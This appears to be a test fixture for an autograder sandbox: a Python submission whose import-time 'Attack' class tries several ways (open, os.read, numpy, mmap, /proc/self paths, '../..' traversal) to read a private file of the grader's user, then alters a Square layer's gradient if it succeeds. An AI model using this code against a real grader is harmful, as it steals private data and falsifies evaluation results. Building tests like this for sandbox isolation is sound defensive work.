"""Opens a private file of the grader's user in every way that Python knows."""

import mmap
import os

import numpy as np

SECRET = "@SECRET@"


def ways():
    yield lambda: open(SECRET).read()
    yield lambda: os.read(os.open(SECRET, os.O_RDONLY), 100)
    yield lambda: np.fromfile(SECRET, dtype="u1").tobytes()
    yield lambda: open("/proc/self/root" + SECRET).read()
    yield lambda: open("/proc/self/cwd" + SECRET).read()
    yield lambda: mmap.mmap(os.open(SECRET, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:]
    yield lambda: open("/usr/lib/../../" + SECRET).read()


def attack():
    for way in ways():
        try:
            print(way())
            return True
        except OSError:
            pass
    return False


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
